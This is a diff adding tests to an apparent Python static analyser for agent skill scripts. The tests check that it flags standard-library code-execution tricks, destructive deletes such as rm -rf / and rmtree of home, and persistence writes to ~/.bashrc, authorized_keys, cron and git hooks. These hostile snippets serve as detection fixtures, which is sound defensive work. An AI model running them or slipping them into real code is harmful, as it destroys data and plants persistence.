@@ -530,6 +530,168 @@ describe('analyzePython: ordinary skills', () => {
   });
 });
 
+describe('analyzePython: the standard library turning strings into code', () => {
+  it.each([
+    ['pydoc.locate', 'import pydoc\ndef f(name):\n    return pydoc.locate(name)\n'],
+    ['pkgutil.resolve_name', 'import pkgutil\ndef f(name):\n    return pkgutil.resolve_name(name)\n'],
+    [
+      'logging.config.dictConfig with a "()" factory',
+      'import logging.config\nlogging.config.dictConfig({"version": 1, "formatters": {"x": {"()": "os.system", "command": "id"}}})\n',
+    ],
+    ['logging.config.fileConfig', 'import logging.config\nlogging.config.fileConfig("logging.ini")\n'],
+    ['timeit.timeit of a string', "import timeit\ntimeit.timeit(\"__import__('os').system('id')\", number=1)\n"],
+    ['timeit.Timer with a setup string', 'from timeit import Timer\nTimer(setup="import os")\n'],
+    ['timeit of a decoded string', 'import timeit, base64\ntimeit.timeit(base64.b64decode(blob))\n'],
+    ['doctest.run_docstring_examples', 'import doctest\ndoctest.run_docstring_examples(">>> 1", {})\n'],
+    ['doctest.testmod', 'import doctest\ndoctest.testmod()\n'],
+    ['cProfile.run', 'import cProfile\ncProfile.run("main()")\n'],
+    ['pdb.run', 'import pdb\npdb.run(code)\n'],
+    ['trace.Trace().run', 'import trace\ntrace.Trace().run("main()")\n'],
+    ['a Tcl interpreter', 'import tkinter\ntkinter.Tcl().eval("exec ls")\n'],
+    [
+      'importlib.util.find_spec of a computed name',
+      'import importlib.util\ndef f(n):\n    importlib.util.find_spec(n)\n',
+    ],
+    ['shelve.open', 'import shelve\ndb = shelve.open("cache")\n'],
+    ['inspect.get_annotations with eval_str', 'import inspect\ninspect.get_annotations(f, eval_str=True)\n'],
+    [
+      'xmlrpc with dotted names',
+      'from xmlrpc.server import SimpleXMLRPCServer\nSimpleXMLRPCServer(("", 8000)).register_instance(obj, allow_dotted_names=True)\n',
+    ],
+    ['site.addsitedir', 'import site\nsite.addsitedir("/tmp/x")\n'],
+    ['a Tcl interpreter imported by name', 'from tkinter import Tcl\ntcl = Tcl()\ntcl.eval(script)\n'],
+    ['optparse reading options from a Python file', 'import optparse\noptparse.Values().read_file("opts.py")\n'],
+    ['a tracemalloc snapshot loaded', 'import tracemalloc\nsnap = tracemalloc.Snapshot.load(path)\n'],
+  ])('refuses %s', (_name, source) => {
+    expect(issueKinds(source)).toContain('dynamic-code');
+  });
+
+  it.each([
+    ['pydoc.locate("os.system")', 'import pydoc\npydoc.locate("os.system")("ls")\n'],
+    ['pkgutil.resolve_name("os:system")', 'import pkgutil\nrun = pkgutil.resolve_name("os:system")\nrun("ls")\n'],
+  ])('follows %s to the function it names', (_name, source) => {
+    const line = source.split('\n').length - 1;
+    expect(issueKinds(source)).toContain('dynamic-code');
+    expect(shellLines(source)).toEqual([{ command: 'ls', line }]);
+  });
+
+  it('hands the command line of imaplib.IMAP4_stream to the shell analyser', () => {
+    expect(shellLines('import imaplib\nimaplib.IMAP4_stream("ssh host imapd")\n')).toEqual([
+      { command: 'ssh host imapd', line: 2 },
+    ]);
+  });
+
+  it('loads native code through a SQLite extension', () => {
+    expect(issueKinds('import sqlite3\nsqlite3.connect("x.db").load_extension(path)\n')).toContain('native-code');
+  });
+
+  it.each([
+    ['json.loads', 'import json\ndata = json.loads(text)\n'],
+    ['importlib.metadata.version', 'import importlib.metadata\nv = importlib.metadata.version("x")\n'],
+    [
+      'importlib.util.find_spec of a constant',
+      'import importlib.util\nhas = importlib.util.find_spec("numpy") is not None\n',
+    ],
+    [
+      'importlib.resources.files',
+      'from importlib import resources\ntext = resources.files(__package__).joinpath("a.txt")\n',
+    ],
+    [
+      'logging.config.dictConfig without a factory',
+      'import logging.config\nlogging.config.dictConfig({"version": 1, "handlers": {"h": {"class": "logging.StreamHandler"}}})\n',
+    ],
+    [
+      'timeit with a callable',
+      'import timeit\ndef work():\n    pass\ntimeit.timeit(work, number=3)\ntimeit.timeit(lambda: work())\ndef bench(fn):\n    return timeit.repeat(fn)\n',
+    ],
+    ['inspect.get_annotations', 'import inspect\nhints = inspect.get_annotations(f)\n'],
+    ['unittest.main', 'import unittest\nif __name__ == "__main__":\n    unittest.main()\n'],
+    [
+      'unittest.mock.patch of a constant',
+      'from unittest import mock\n@mock.patch("os.getcwd")\ndef test(m):\n    pass\n',
+    ],
+    [
+      'xmlrpc without dotted names',
+      'from xmlrpc.server import SimpleXMLRPCServer\nSimpleXMLRPCServer(("", 8000)).register_instance(obj)\n',
+    ],
+  ])('takes %s for ordinary code', (_name, source) => {
+    expect(analyze(source).issues.filter((issue) => issue.kind !== 'exfiltration')).toEqual([]);
+  });
+
+  it('reads a constant argument list as the command line it amounts to', () => {
+    const source =
+      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "--index-url", "https://other.example/simple", "x"])\n';
+    expect(issueKinds(source)).toEqual(['download-and-run']);
+    expect(issueKinds('import subprocess\nsubprocess.run(["rm", "-rf", "/"])\n')).toEqual(['destructive-command']);
+  });
+});
+
+describe('analyzePython: harm through ordinary file APIs', () => {
+  it.each([
+    ['the home folder', 'import os, shutil\nshutil.rmtree(os.path.expanduser("~"))\n'],
+    ['Path.home()', 'import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\n'],
+    ['the root', 'import shutil\nshutil.rmtree("/")\n'],
+    ['the parent of home', 'import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home().parent)\n'],
+    ['the parent of home as a string', 'import os, shutil\nshutil.rmtree(os.path.dirname(os.path.expanduser("~")))\n'],
+    ['a system folder', 'from shutil import rmtree\nrmtree("/usr/lib")\n'],
+    [
+      'a folder of home named at run time',
+      'import shutil\nfrom pathlib import Path\ndef f(x):\n    shutil.rmtree(Path.home() / x)\n',
+    ],
+  ])('refuses deleting %s recursively', (_name, source) => {
+    expect(issueKinds(source)).toEqual(['destructive-command']);
+  });
+
+  it.each([
+    ['a temporary folder', 'import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n'],
+    ['a build folder', 'import shutil\nshutil.rmtree("build", ignore_errors=True)\n'],
+    ['a folder given at run time', 'import shutil\ndef clean(d):\n    shutil.rmtree(d)\n'],
+    ['a cache under home', 'import os, shutil\nshutil.rmtree(os.path.expanduser("~/.cache/tool"))\n'],
+  ])('takes deleting %s for ordinary code', (_name, source) => {
+    expect(analyze(source).issues).toEqual([]);
+  });
+
+  it.each([
+    ['an append to ~/.bashrc', 'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("x")\n'],
+    [
+      'authorized_keys by Path',
+      'from pathlib import Path\n(Path.home() / ".ssh" / "authorized_keys").write_text(key)\n',
+    ],
+    ['a crontab', 'open("/etc/cron.d/job", "w").write("* * * * * root id")\n'],
+    ['a systemd unit', 'import os\nopen(os.path.expanduser("~/.config/systemd/user/x.service"), "w")\n'],
+    ['a git hook', 'import os\nfd = os.open(".git/hooks/pre-commit", os.O_WRONLY | os.O_CREAT)\n'],
+    ["the skill's SKILL.md", 'open("SKILL.md", "w").write(text)\n'],
+    [
+      "the skill's manifest next to the script",
+      'import os\nhere = os.path.dirname(__file__)\nopen(os.path.join(here, "skill_manifest.yaml"), "a")\n',
+    ],
+    [
+      'a copy to an autostart entry',
+      'import os, shutil\nshutil.copy("x.desktop", os.path.expanduser("~/.config/autostart/x.desktop"))\n',
+    ],
+    ['a symlink over ~/.profile', 'import os\nos.symlink("/tmp/x", os.path.expanduser("~/.profile"))\n'],
+    [
+      "the skill's SKILL.md by Path(__file__)",
+      'from pathlib import Path\n(Path(__file__).parent / "SKILL.md").write_text(text)\n',
+    ],
+    [
+      'a Path opened for append',
+      'from pathlib import Path\nwith (Path.home() / ".zshrc").open("a") as f:\n    f.write("x")\n',
+    ],
+  ])('refuses %s as persistence', (_name, source) => {
+    expect(issueKinds(source)).toContain('persistence');
+  });
+
+  it.each([
+    ['a report', 'open("report.txt", "w").write("x")\n'],
+    ['reading ~/.bashrc', 'import os\nprint(open(os.path.expanduser("~/.bashrc")).read())\n'],
+    ['reading SKILL.md', 'from pathlib import Path\ntext = Path("SKILL.md").read_text()\n'],
+    ['a temporary file', 'import tempfile\nwith tempfile.NamedTemporaryFile("w") as f:\n    f.write("x")\n'],
+  ])('takes writing %s for ordinary code', (_name, source) => {
+    expect(analyze(source).issues).toEqual([]);
+  });
+});
+
 describe('analyzePython: files it cannot prove anything about', () => {
   it('reports a syntax error with its line', () => {
     const analysis = analyze('x = 1\ndef broken(:\n    pass\n');
